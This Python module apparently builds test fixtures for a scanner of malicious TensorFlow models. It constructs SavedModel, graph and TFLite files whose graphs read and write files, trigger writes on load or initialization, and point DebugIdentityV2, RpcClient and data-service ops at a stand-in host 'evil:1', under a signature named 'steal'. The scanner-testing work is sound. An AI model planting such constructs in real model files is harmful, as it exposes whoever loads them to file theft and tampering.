"""Models that do something to the machine, built with TensorFlow: each construct, in every container that holds it.

Paths lead to a folder that the builder is given, so that running one, by mistake, harms nothing. The tests only read.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import tensorflow as tf

v1 = tf.compat.v1
X = tf.TensorSpec([None], tf.float32, "x")
CONTAINERS = ("saved_model", "v1", "text", "pb", "pbtxt", "meta")


class Construct(NamedTuple):
    """One way to reach out of a graph.

    Attributes:
        op: that does it.
        target: what it acts on, below the folder; "" for nothing.
        body: makes the graph: from an input and the folder to what is returned.
    """

    op: str
    target: str
    body: Callable[[Any, str], Any]


def _after(op: Any, x: Any) -> Any:
    with tf.control_dependencies([op]):
        return tf.identity(x)


def _count(text: Any, x: Any) -> Any:
    return x + tf.cast(tf.strings.length(text), tf.float32)


def _reduced(dataset: Any, x: Any) -> Any:
    return _count(dataset.reduce("", lambda a, b: a + b), x)


def _print_in_loop(x: Any, at: str) -> Any:
    def body(i: Any, y: Any) -> Any:
        return i + 1, _after(tf.raw_ops.PrintV2(input="a", output_stream=f"file://{at}/print"), y)

    return tf.while_loop(lambda i, y: i < 2, body, [tf.constant(0), x])[1]


def _write_in_branch(x: Any, at: str) -> Any:
    return tf.cond(
        tf.reduce_sum(x) > 0, lambda: _after(tf.raw_ops.WriteFile(filename=f"{at}/w", contents="x"), x), lambda: x
    )


def _graph_in_string(x: Any, at: str) -> Any:
    inner = tf.Graph()
    with inner.as_default():
        dataset = tf.data.Dataset.from_tensors(f"{at}/r").map(tf.io.read_file)
        text = tf.raw_ops.DatasetToGraphV2(input_dataset=dataset._variant_tensor)
        with v1.Session(graph=inner) as session:
            data = session.run(text)
    variant = tf.raw_ops.DatasetFromGraph(graph_def=tf.constant(data))
    return _reduced(tf.data.experimental.from_variant(variant, tf.TensorSpec([], tf.string)), x)


def _save(x: Any, at: str) -> Any:
    return _after(tf.raw_ops.SaveV2(prefix=f"{at}/s", tensor_names=["a"], shape_and_slices=[""], tensors=[x]), x)


def _restore(x: Any, at: str) -> Any:
    read = tf.raw_ops.RestoreV2(prefix=f"{at}/r", tensor_names=["a"], shape_and_slices=[""], dtypes=[tf.float32])
    return x + read[0]


def _merge(x: Any, at: str) -> Any:
    return _after(tf.raw_ops.MergeV2Checkpoints(checkpoint_prefixes=[f"{at}/a"], destination_prefix=f"{at}/b"), x)


def _cache(x: Any, at: str) -> Any:
    dataset = tf.data.Dataset.from_tensors(x).cache(f"{at}/cache")
    return dataset.reduce(x * 0, lambda a, b: a + b)


def _sql(x: Any, at: str) -> Any:
    query = f"ATTACH '{at}/b.db' AS b"
    return _reduced(tf.data.experimental.SqlDataset("sqlite", f"{at}/a.db", query, (tf.string,)), x)


def _apply(op: str, **arguments: Any) -> Any:
    """Add an op that TensorFlow has no Python function for."""
    from tensorflow.python.framework import op_def_library

    return op_def_library.apply_op(op, **arguments)


def _statistics(x: Any, at: str) -> Any:
    places = tf.zeros([0], tf.int64)
    saver = _apply(
        "CalibrationStatisticsSaver",
        args=[x, x, places],
        ids=["a"],
        calibration_methods=[1],
        output_file_path=f"{at}/c",
    )
    return _after(saver, x)


def _module(x: Any, at: str) -> Any:
    attrs = {"Sout": [tf.TensorShape([None])], "Tout": [tf.float32], "platforms": ["CPU"], "version": 9}
    none: dict[str, Any] = {"dim_args_spec": [], "function_list": [], "disabled_checks": []}
    flags = {"has_token_input_output": False, "use_shardy_partitioner": False}
    return _apply("XlaCallModule", args=[x], module=_MODULE, **attrs, **none, **flags)[0]


def _rpc(x: Any, at: str) -> Any:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

    client = gen_rpc_ops.RpcClient(
        shared_name="a", server_address="evil:1", list_registered_methods=True, timeout_in_ms=1
    )
    return _count(client[1], x)


def _service(x: Any, at: str) -> Any:
    dataset = tf.data.Dataset.from_tensors(x)
    service = tf.data.experimental.service.from_dataset_id(
        processing_mode="parallel_epochs", service="grpc://evil:1", dataset_id="a", element_spec=dataset.element_spec
    )
    return x + service.reduce(0.0, lambda a, b: a + tf.reduce_sum(b))


CONSTRUCTS: dict[str, Construct] = {
    "read": Construct("ReadFile", "/r", lambda x, at: _count(tf.io.read_file(f"{at}/r"), x)),
    "split": Construct("ReadFile", "/r", lambda x, at: _count(tf.io.read_file(tf.strings.join([at, "/", "r"])), x)),
    "read_in_map": Construct(
        "ReadFile",
        "/r",
        lambda x, at: _reduced(tf.data.Dataset.from_tensor_slices([f"{at}/r"]).map(tf.io.read_file), x),
    ),
    "write_in_branch": Construct("WriteFile", "/w", _write_in_branch),
    "print_in_loop": Construct("PrintV2", "/print", _print_in_loop),
    "save": Construct("SaveV2", "/s", _save),
    "restore": Construct("RestoreV2", "/r", _restore),
    "merge": Construct("MergeV2Checkpoints", "/b", _merge),
    "cache": Construct("CacheDatasetV2", "/cache", _cache),
    "statistics": Construct("CalibrationStatisticsSaver", "/c", _statistics),
    "debug_file": Construct(
        "DebugIdentity", "/d", lambda x, at: tf.raw_ops.DebugIdentity(input=x, debug_urls=[f"file://{at}/d"])
    ),
    "debug_grpc": Construct(
        "DebugIdentityV2", "", lambda x, at: tf.raw_ops.DebugIdentityV2(input=x, debug_urls=["grpc://evil:1"])
    ),
    "sql": Construct("SqlDataset", "/a.db", _sql),
    "immutable": Construct(
        "ImmutableConst",
        "/i",
        lambda x, at: x + tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[1], memory_region_name=f"{at}/i"),
    ),
    "match": Construct("MatchingFiles", "/*", lambda x, at: _count(tf.io.matching_files(f"{at}/*")[0], x)),
    "lines": Construct("TextLineDataset", "/t", lambda x, at: _reduced(tf.data.TextLineDataset(f"{at}/t"), x)),
    "records": Construct("TFRecordDataset", "/t", lambda x, at: _reduced(tf.data.TFRecordDataset(f"{at}/t"), x)),
    "graph": Construct("DatasetFromGraph", "", _graph_in_string),
    "python": Construct("PyFunc", "", lambda x, at: tf.raw_ops.PyFunc(input=[x], token="f", Tout=[tf.float32])[0]),
    "module": Construct("XlaCallModule", "", _module),
    "rpc": Construct("RpcClient", "", _rpc),
    "service": Construct("DataServiceDatasetV4", "evil:1", _service),
}
_MODULE = (Path(__file__).parents[1] / "scanning/modules/both.1.13.0.mlirbc").read_bytes()


Body = Callable[[Any, str], Any]


def _nested(body: Body) -> Body:
    inner = tf.function(body, autograph=False)
    outer = tf.function(lambda x, at: inner(x, at), autograph=False)
    return lambda x, at: outer(x, at)


def _in_branch(body: Body) -> Body:
    return lambda x, at: tf.cond(tf.reduce_sum(x) > 0, lambda: body(x, at), lambda: x)


def _in_case(body: Body) -> Body:
    return lambda x, at: tf.switch_case(tf.shape(x)[0], [lambda: x, lambda: body(x, at), lambda: -x])


def _in_loop(body: Body) -> Body:
    def run(x: Any, at: str) -> Any:
        def step(i: Any, y: Any) -> Any:
            y.set_shape([None])
            return i + 1, tf.ensure_shape(body(y, at), [None])

        shapes = [tf.TensorShape([]), tf.TensorShape([None])]
        return tf.while_loop(lambda i, y: i < 2, step, [tf.constant(0), x], shape_invariants=shapes)[1]

    return run


def _in_map(body: Body) -> Body:
    def run(x: Any, at: str) -> Any:
        found = tf.data.Dataset.from_tensors(x).map(lambda y: tf.reduce_sum(body(y, at)))
        return x + found.reduce(0.0, lambda a, b: a + b)

    return run


# Where in a graph a construct stands: in itself, or in functions that it calls in each of the ways to call one.
PLACES: dict[str, Callable[[Body], Body]] = {
    "main": lambda body: body,
    "nested": _nested,
    "branch": _in_branch,
    "case": _in_case,
    "loop": _in_loop,
    "map": _in_map,
}


def build(name: str, container: str, target: Path, at: Path, place: str = "main") -> Path:
    """Build a construct in a container, as signature `steal` where there are signatures.

    Args:
        name: of the construct.
        container: one of `CONTAINERS`.
        target: where to, without suffix.
        at: the folder that its paths lead to.
        place: one of `PLACES`.
    """
    body = PLACES[place](CONSTRUCTS[name].body)
    if container == "saved_model":
        module = tf.Module()
        module.f = tf.function(lambda x: {"y": body(x, str(at))}, input_signature=[X])
        tf.saved_model.save(module, str(target), signatures={"steal": module.f})
        return target
    graph = tf.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(body(x, str(at)), name="y")
    if container in ("v1", "text"):
        return _saved(graph, x, y, target, as_text=container == "text")
    path = target.with_name(f"{target.name}.{container}")
    if container == "meta":
        with graph.as_default():
            v1.train.export_meta_graph(str(path), graph=graph)
        return path
    tf.io.write_graph(graph.as_graph_def(), str(path.parent), path.name, as_text=container == "pbtxt")
    return path


def _saved(graph: Any, x: Any, y: Any, target: Path, *, as_text: bool = False, main_op: Any = None) -> Path:
    with graph.as_default(), v1.Session(graph=graph) as session:
        builder = v1.saved_model.Builder(str(target))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(session, ["serve"], {"steal": signature}, main_op=main_op)
        builder.save(as_text=as_text)
    return target


Row = tuple[str, str | None, str, str | None]


def special(folder: Path, at: Path) -> Iterator[tuple[str, Path, Row]]:
    """Build what is no body of a signature: yield a name, the model, and severity, op, when and target of a finding."""
    yield "on_load", _on_load(folder / "on_load", at), ("critical", "WriteFile", "load", f"{at}/w")
    yield "in_gradient", _in_gradient(folder / "in_gradient", at), ("high", "ReadFile", "function:", f"{at}/r")
    yield "uncalled", _uncalled(folder / "uncalled", at), ("medium", "ReadFile", "unknown", f"{at}/r")
    yield "second", _second(folder / "second", at), ("high", "ReadFile", "signature:steal", f"{at}/r")
    yield "on_import", _on_import(folder / "on_import", at), ("high", "ReadFile", "load", f"{at}/r")
    yield "variable", _variable(folder / "variable", at), ("high", "ReadFile", "signature:steal", f"{at}/r")
    yield "initialize", _initialize(folder / "initialize", at), ("critical", "WriteFile", "load", f"{at}/w")
    yield "callers", _callers(folder / "callers"), (
        "high", "ReadFile", "signature:steal", "whatever the caller passes (path)",
    )  # fmt: skip


def _on_load(target: Path, at: Path) -> Path:
    graph = tf.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(x)
        write = tf.raw_ops.WriteFile(filename=f"{at}/w", contents="x")
    return _saved(graph, x, y, target, main_op=write)


def _in_gradient(target: Path, at: Path) -> Path:
    @tf.custom_gradient
    def twice(x: Any) -> Any:
        return x * 2, lambda dy: _count(tf.io.read_file(f"{at}/r"), dy)

    module = tf.Module()
    module.f = tf.function(lambda x: {"y": twice(x)}, input_signature=[X])
    options = tf.saved_model.SaveOptions(experimental_custom_gradients=True)
    tf.saved_model.save(module, str(target), signatures={"steal": module.f}, options=options)
    return target


def _uncalled(target: Path, at: Path) -> Path:
    graph = tf.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None], name="x")
        y = tf.identity(x)
        idle = tf.function(lambda: tf.io.read_file(f"{at}/r")).get_concrete_function()
        idle.add_to_graph(graph)
    return _saved(graph, x, y, target)


def _second(target: Path, at: Path) -> Path:
    builder = v1.saved_model.Builder(str(target))
    for number, tags in enumerate((["serve"], ["serve", "gpu"])):
        with tf.Graph().as_default() as graph, v1.Session(graph=graph) as session:
            x = v1.placeholder(tf.float32, [None], name="x")
            y = _count(tf.io.read_file(f"{at}/r"), x) if number else tf.identity(x)
            signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            add = builder.add_meta_graph if number else builder.add_meta_graph_and_variables
            add(*(() if number else (session,)), tags, {"steal": signature})
    builder.save()
    return target


def _on_import(target: Path, at: Path) -> Path:
    module = tf.Module()

    def body(x: Any) -> Any:
        return {"y": x, "z": tf.fill(tf.io.decode_raw(tf.io.read_file(f"{at}/r"), tf.int32), 1.0)}

    module.f = tf.function(body, input_signature=[X])
    tf.saved_model.save(module, str(target), signatures={"steal": module.f})
    return target


def _initialize(target: Path, at: Path) -> Path:
    class Holder(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        def _create_resource(self) -> Any:
            return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> Any:
            with tf.control_dependencies([tf.io.write_file(f"{at}/w", "x")]):
                return tf.raw_ops.LookupTableSizeV2(table_handle=self.resource_handle)

    module = tf.Module()
    module.resource = Holder()
    module.use = tf.function(
        lambda: tf.raw_ops.LookupTableSizeV2(table_handle=module.resource.resource_handle), input_signature=[]
    )
    module.f = tf.function(lambda x: {"y": x}, input_signature=[X])
    tf.saved_model.save(module, str(target), signatures={"steal": module.f})
    return target


def _variable(target: Path, at: Path) -> Path:
    module = tf.Module()
    module.path = tf.Variable(f"{at}/r")
    module.f = tf.function(lambda x: {"y": _count(tf.io.read_file(module.path), x)}, input_signature=[X])
    tf.saved_model.save(module, str(target), signatures={"steal": module.f})
    return target


def _callers(target: Path) -> Path:
    module = tf.Module()
    spec = tf.TensorSpec([], tf.string, "path")
    module.f = tf.function(lambda path: {"y": tf.io.read_file(path)}, input_signature=[spec])
    tf.saved_model.save(module, str(target), signatures={"steal": module.f})
    return target


def flex(folder: Path) -> Iterator[tuple[str, Path]]:
    """Convert graphs to TFLite that keep ops of TensorFlow: yield a name and the model."""
    module = tf.Module()
    text = tf.TensorSpec([], tf.string, "path")
    numbers = tf.TensorSpec([2], tf.float32, "x")

    def write(x: Any) -> Any:
        return {"y": _after(tf.raw_ops.WriteFile(filename=f"{folder}/w", contents="x"), x + 1)}

    def debug(x: Any) -> Any:
        return {"y": tf.raw_ops.DebugIdentityV2(input=x, debug_urls=[f"file://{folder}/d"])}

    def mapped(x: Any) -> Any:
        return {"y": _reduced(tf.data.Dataset.from_tensor_slices([f"{folder}/r"]).map(tf.io.read_file), x)}

    functions = {
        "mapped": tf.function(mapped, input_signature=[numbers]),
        "write": tf.function(write, input_signature=[numbers]),
        "caller": tf.function(lambda path: {"y": tf.io.read_file(path)}, input_signature=[text]),
        "debug": tf.function(debug, input_signature=[numbers]),
    }
    for name, function in functions.items():
        converter = tf.lite.TFLiteConverter.from_concrete_functions([function.get_concrete_function()], module)
        converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
        ops = ["ReadFile", "WriteFile", "DebugIdentityV2", "TensorSliceDataset", "MapDataset", "ReduceDataset"]
        converter.target_spec.experimental_select_user_tf_ops = ops
        converter.allow_custom_ops = True
        path = folder / f"{name}.tflite"
        path.write_bytes(converter.convert())
        yield name, path
